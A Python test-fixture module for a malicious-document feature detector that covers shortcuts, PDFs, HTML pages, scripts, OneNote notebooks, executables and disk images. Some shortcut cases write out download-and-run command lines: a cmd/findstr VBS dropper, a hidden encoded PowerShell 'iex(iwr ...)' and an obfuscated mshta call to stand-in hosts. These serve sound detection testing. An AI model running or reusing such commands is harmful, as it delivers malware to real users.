"""formats_cases.py - samples of documents, and what is true of them."""

import image
import lnk
import onenote
import pages
import pdf
import pe
import scripts

CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


class Case:
    """A sample; every feature of its reader that is not zero, and every
    address; `roughly` are features within bounds."""

    def __init__(self, reader, name, data, addresses=(), roughly=None,
                 **features):
        self.reader = reader
        self.name = name
        self.data = data
        self.addresses = list(addresses)
        self.roughly = roughly or {}
        self.features = {f"{reader}.{key}": value
                         for key, value in features.items()}


def lnk_cases():
    yield Case("lnk", "a plain shortcut", lnk.link())
    yield Case("lnk", "a shortcut to a share", lnk.link(
        "letter.docx", share=r"\\server\files", tracker=True),
        target_remote=1)
    # The mail of April 2022.
    arguments = (r'/v:on /c findstr "rSIPPsw.*" Password2.doc.lnk > '
                 r'"%tmp%\VEuIqlISMa.vbs" & "%tmp%\VEuIqlISMa.vbs"')
    appended = (b'\r\nrSIPPsw:: Set x = CreateObject("WScr" & "ipt.Shell")'
                b'\r\nx.run "http://a.example/b.exe"')
    yield Case("lnk", "a script cut out of the shortcut", lnk.link(
        CMD, arguments=arguments, icon="shell32.dll", show=lnk.MINIMISED,
        size=0, appended=appended), ["http://a.example/b.exe"],
        arguments=len(arguments), blanks=1, interpreters=1,
        target_interpreter=1, target_empty=1, icon_differs=1, minimised=1,
        appended=len(appended), appended_runs=1, place_words=2, file_words=3,
        cut_words=1)
    yield Case("lnk", "an encoded command", lnk.link(
        POWERSHELL, arguments="-nop -w hidden -e SQBFAFgA" + " " * 50
        + "iex(iwr https://b.example/c)", unicode=False),
        ["https://b.example/c"], arguments=26 + 50 + 28, blanks=50,
        interpreters=1, target_interpreter=1, execute_words=1,
        download_words=1, encode_words=1, hide_words=3, urls=1)
    yield Case("lnk", "variables and marks", lnk.link(
        "", environment="%comspec%", with_items=False, with_info=False,
        arguments="/c ms^ht^a http://c.example/d.hta"),
        ["http://c.example/d.hta"], arguments=33, blanks=1,
        interpreters=1, target_interpreter=1, environment=1, urls=1,
        execute_words=1, file_words=1, split_words=3)
    cut = lnk.link(arguments="x" * 100)
    yield Case("lnk", "cut off", cut[:-40], arguments=82, broken=1)


def pdf_cases():
    yield Case("pdf", "two pages", pdf.document(2, "Hello"), pages=2)
    yield Case("pdf", "one page of text", pdf.document(
        1, "x" * 500, links=[("https://example.com/a", (0, 0, 61.2, 79.2))]),
        ["https://example.com/a"], pages=1, text_bytes=500, links=1,
        link_hosts=1, link_cover=0.01)
    yield Case("pdf", "a lure", pdf.document(
        1, "View document", images=1,
        links=[("http://10.0.0.1/x.zip", (0, 0, 612, 396)),
               ("http://a.example/y", (0, 0, 1, 1)),
               ("http://a.example/z", (0, 0, 1, 1))]),
        ["http://10.0.0.1/x.zip", "http://a.example/y",
         "http://a.example/z"], pages=1, images=1, text_bytes=13, links=3,
        link_hosts=2, numeric_links=1, file_links=1, link_cover=0.5, lure=1)
    yield Case("pdf", "a script behind numbers", pdf.document(
        1, "a", script="app.alert(1)", hide_names=True), pages=1,
        text_bytes=1, obfuscated=3, free_scripts=1)
    yield Case("pdf", "a script in an object stream", pdf.document(
        3, "a", script="app.alert(1)", object_streams=True,
        links=[("https://example.com/", (0, 0, 6.12, 7.92))],
        files=[("note.txt", b"a"), ("run.vbs", b"b")]),
        ["https://example.com/"], pages=3, links=1, link_hosts=1,
        link_cover=0.0001, risky_files=1, hidden_actions=1, free_scripts=1)
    yield Case("pdf", "a program that is started", pdf.document(
        2, "a", launch="cmd.exe", before=b"junk\n", behind=b"\0" * 9),
        pages=2, header_offset=5, trailing_bytes=9, launched_programs=1)
    yield Case("pdf", "a form that is sent", pdf.document(
        2, submit="https://a.example/", xfa=True), pages=2, submit_forms=1)
    yield Case("pdf", "another file", pdf.document(
        2, remote="\\\\server\\a.pdf", colors=1 << 25), pages=2,
        remote_actions=1, colors=1)
    yield Case("pdf", "a script that prints", pdf.document(
        1, "An invoice.", script="this.print({bUI: true, bSilent: false});"),
        pages=1, text_bytes=11)
    bad = "eval(unescape('%u9090')); this.exportDataObject();"
    yield Case("pdf", "a script that makes its bytes", pdf.document(
        1, script=bad), pages=1, free_scripts=1, script_words=3)
    yield Case("pdf", "the same in a stream of its own", pdf.document(
        1, script=bad, script_stream=True), pages=1, free_scripts=1,
        script_words=3)
    yield Case("pdf", "and behind an object stream", pdf.document(
        1, script=bad, script_stream=True, object_streams=True), pages=1,
        hidden_actions=1, free_scripts=1, script_words=3)
    yield Case("pdf", "a script that belongs to a form", pdf.document(
        1, form=True, script="event.value = 1;"), pages=1)
    yield Case("pdf", "a link to a page about a name", pdf.document(
        2, links=[("https://example.com/JavaScript/JS", (0, 0, 612, 792))]),
        ["https://example.com/JavaScript/JS"], pages=2, links=1,
        link_hosts=1, link_cover=1)
    yield Case("pdf", "a version that there is not", pdf.document(
        2, version=b"1.44"), pages=2, odd_version=1)
    yield Case("pdf", "one that there is", pdf.document(
        2, version=b"2.0"), pages=2)
    yield Case("pdf", "pages for those who cannot see", pdf.document(
        2, files=[("table.html", b"<p>1"), ("a.js", b"1")]), pages=2,
        risky_files=1)
    yield Case("pdf", "an encrypted one", pdf.document(
        1, "a", encrypted=True,
        links=[("http://a.example/", (0, 0, 612, 792))]),
        pages=1, links=1, link_cover=1)


# How long things are follows from how a sample is written, which is nobody's
# contract.
LOOKS = {"html." + name: (0, 1e9) for name in (
    "text_bytes", "script_share", "encoded_bytes", "longest_encoded",
    "longest_numbers", "escapes")}
SCRIPT_LOOKS = {"script." + name: (0, 1e9) for name in (
    "lines", "longest_line", "entropy", "digit_share", "mark_share",
    "blank_share", "strings", "longest_string")}


def looks(bounds, **features):
    family = next(iter(bounds)).split(".")[0]
    return {**bounds,
            **{f"{family}.{name}": value for name, value in features.items()}}


def html_cases():
    yield Case("html", "a page that makes a ZIP", pages.smuggling(), (),
               looks(LOOKS, longest_encoded=(120, 120)), scripts=1,
               blob_words=5, decode_words=1, character_words=1,
               click_words=1, downloads=1, risky_downloads=1,
               encoded_files=1)
    yield Case("html", "a page that makes a ZIP of numbers", pages.smuggling(
        way="numbers", save="ms", name="a.iso"), (),
        looks(LOOKS, longest_numbers=(90, 90)), scripts=1, blob_words=5,
        encoded_files=1)
    yield Case("html", "a page that makes it of pieces", pages.smuggling(
        way="pieces", name="letter.txt"), (), LOOKS, scripts=1, blob_words=4,
        decode_words=1, click_words=1, downloads=1, joints=7)
    yield Case("html", "a form for a password", pages.sign_in(hidden=2),
               ["https://a.example/collect"], LOOKS, forms=1,
               forms_elsewhere=1, password_fields=1, images=1, links=1,
               hidden_elements=2)
    yield Case("html", "a page that leads away", pages.redirect(),
               ["https://a.example/next"], LOOKS, meta_refresh=1)
    yield Case("html", "a script that leads away", pages.redirect(
        "http://192.0.2.1/", "script"), ["http://192.0.2.1/"], LOOKS,
        scripts=1, redirect_words=1)
    yield Case("html", "a drawing with a script", pages.svg(
        "eval(unescape('%61'))"), (), LOOKS, svg=1, scripts=1,
        dynamic_words=1, decode_words=1)
    yield Case("html", "a drawing that leads away", pages.svg(
        link="http://a.example/b.iso"), ["http://a.example/b.iso"], LOOKS,
        svg=1, links=1, file_links=1)
    yield Case("html", "a newsletter", pages.newsletter(2, 3),
               ["https://news.example/0?a=1&b=2",
                "https://news.example/1?a=1&b=2",
                "https://img.example/a.png"], LOOKS, images=3, links=5,
               hidden_elements=1)
    yield Case("html", "a comment holds nothing", pages.page(
        "<!-- <form action='http://a.example/'> -->text",
        "<style><form></style>"), (), looks(LOOKS, text_bytes=(8, 8)))
    wide = pages.redirect().decode().encode("utf-16")
    yield Case("html", "a page in UTF-16", wide,
               ["https://a.example/next"], LOOKS, meta_refresh=1)


def script_cases():
    vbs = {"object_words": 3, "execute_words": 1, "download_words": 1,
           "write_words": 2, "place_words": 1, "file_words": 2, "urls": 1}
    yield Case("script", "fetch, write, start", scripts.vbs(),
               ["http://a.example/b.exe"], SCRIPT_LOOKS, **vbs)
    yield Case("script", "words in pieces", scripts.vbs(split=True),
               ["http://a.example/b.exe"], SCRIPT_LOOKS, split_words=1,
               joints=2, **vbs)
    yield Case("script", "in UTF-16", scripts.vbs().decode().encode("utf-16"),
               ["http://a.example/b.exe"], SCRIPT_LOOKS, **vbs)
    yield Case("script", "a text of numbers", scripts.js(), (),
               SCRIPT_LOOKS, character_words=1, dynamic_words=1,
               longest_numbers=4)
    yield Case("script", "an encoded command", scripts.ps1(), (),
               SCRIPT_LOOKS, execute_words=1, hide_words=2, decode_words=1)
    yield Case("script", "a task", scripts.bat(), (),
               looks(SCRIPT_LOOKS, lines=(2, 2)), persist_words=1)
    yield Case("script", "an application", scripts.hta(), (), SCRIPT_LOOKS,
               object_words=1, execute_words=1)
    yield Case("script", "a script file", scripts.wsf(), (), SCRIPT_LOOKS,
               longest_numbers=1)
    yield Case("script", "an encoded script", scripts.encoded(), (),
               SCRIPT_LOOKS, encoded=1)
    yield Case("script", "an honest script", scripts.honest(), (),
               SCRIPT_LOOKS, object_words=1)


def onenote_cases():
    yield Case("onenote", "pictures", onenote.notebook(pictures=2), files=2,
               pictures=2, largest=72)
    script = b"<job id=\"a\"><script>GetObject(\"http://a.example/\")"
    yield Case("onenote", "a script under a button", onenote.notebook(
        [("click.wsf", script), ("a.pdf.exe", b"MZ" + bytes(98)),
         ("notes.txt", b"hello")], text="See http://b.example/c here"),
        ["http://a.example/", "http://b.example/c"], files=4, pictures=1,
        scripts=1, programs=1, others=1, largest=100, risky_names=2,
        double_names=1)
    yield Case("onenote", "a shortcut, an archive, a page, a document",
               onenote.notebook([("a", lnk.link()), ("b", pages.ZIP),
                                 ("c", pages.page()), ("d.hta", b"x"),
                                 ("e", pdf.document())], pictures=0),
               roughly={"onenote.largest": (100, 5000)}, files=5,
               shortcuts=1, archives=1, pages=1, documents=1, others=1,
               risky_names=2)  # the shortcut's target is the second
    whole = onenote.notebook(pictures=1)
    yield Case("onenote", "cut off", whole[:-40], files=1, pictures=1,
               broken_files=1, largest=48)
    # Each goes to the next mark, 16 bytes of a footer with it.
    lying = onenote.notebook(pictures=2, text="")
    for length in (len(onenote.PNG), len(onenote.JPEG)):
        lying = lying.replace(
            onenote.OBJECT + length.to_bytes(8, "little"),
            onenote.OBJECT + (1 << 40).to_bytes(8, "little"))
    yield Case("onenote", "longer than the notebook", lying, files=2,
               pictures=2, broken_files=2, largest=88)


PE_LOOKS = {"pe." + name: (0, 1) for name in ("resource_share",)}


def pe_cases():
    bounds = {**PE_LOOKS, "pe.section_entropy": (0.1, 7),
              "pe.code_entropy": (0.1, 0.3)}
    plain = {"64": 1, "version": 1, "sections": 3, "libraries": 1,
             "functions": 1}
    yield Case("pe", "a plain program", pe.program(), (), bounds, **plain)
    yield Case("pe", "a signed library", pe.program(
        dll=True, exports=True, overlay=b"x" * 100, signature=b"s" * 64,
        console=True), (), bounds, **plain, library=1, exports=1, overlay=100,
        signed=1, console=1)
    yield Case("pe", "imports", pe.program({
        "KERNEL32.dll": ["VirtualAlloc", "CreateRemoteThread", "WinExec",
                         "IsDebuggerPresent", "CreateProcessW", 7],
        "WININET.dll": ["InternetOpenA", "HttpOpenRequestA"],
        "ADVAPI32.dll": ["RegSetValueExW", "CryptEncrypt"],
        "USER32.dll": ["SetWindowsHookExA", "MessageBoxA"]}, wide=False,
        version=False), (), bounds, sections=2, libraries=4, functions=12,
        memory_imports=2, process_imports=2, network_imports=2,
        persist_imports=1, crypt_imports=1, watch_imports=1, debug_imports=1)
    packed = [(b"UPX0", b"", pe.CODE | pe.WRITE, 4096),
              (b"UPX1", pe.noise(8192), pe.CODE | pe.WRITE, 0)]
    yield Case("pe", "a packed program", pe.program(
        sections=packed, entry=0x9000), (), {
            **PE_LOOKS, "pe.section_entropy": (7.9, 8),
            "pe.code_entropy": (7.9, 8)}, **{
                **plain, "sections": 4}, writable_code=2, empty_code=1,
        entry_outside=1)
    yield Case("pe", "a .NET program cut off", pe.program(
        dotnet=True)[:-512], (), bounds, **{**plain, "version": 0},
        dotnet=1, broken=1)


def image_cases():
    program = pe.program()
    yield Case("image", "one shortcut is seen", image.iso(
        [("Documents.lnk", lnk.link()), ("a.dll", program, True)]), files=2,
        one_seen=1, programs=1, shortcuts=1, hidden_files=1, hidden_runs=1)
    yield Case("image", "one program", image.iso(
        [("invoice.pdf.exe", program)]), files=1, single=1, programs=1,
        double_names=1)
    yield Case("image", "documents", image.iso(
        [("a.txt", b"hello"), ("b.jpg", onenote.JPEG),
         ("autorun.inf", b"[autorun]")], folder=[("run.bat", b"@echo off"),
                                                 ("c", b"?")]),
        files=5, documents=1, pictures=1, scripts=2, others=1, autorun=1)
    yield Case("image", "a program by another name", image.iso(
        [("a.txt", program)], joliet=False), files=1, single=1, programs=1)
    fat = image.fat([("Very long name of a letter.pdf", b"a"),
                     ("hidden script.js", b"b", True)])
    facts = {"files": 2, "documents": 1, "scripts": 1, "hidden_files": 1,
             "hidden_runs": 1}
    yield Case("image", "a FAT volume", fat, **facts)
    yield Case("image", "a fixed virtual disk", image.vhd(image.mbr(fat)),
               **facts)
    yield Case("image", "a virtual disk that nobody lists",
               b"vhdxfile" + bytes(65536), unlisted=1)


def all_cases():
    return [*lnk_cases(), *pdf_cases(), *html_cases(), *script_cases(),
            *onenote_cases(), *pe_cases(), *image_cases()]
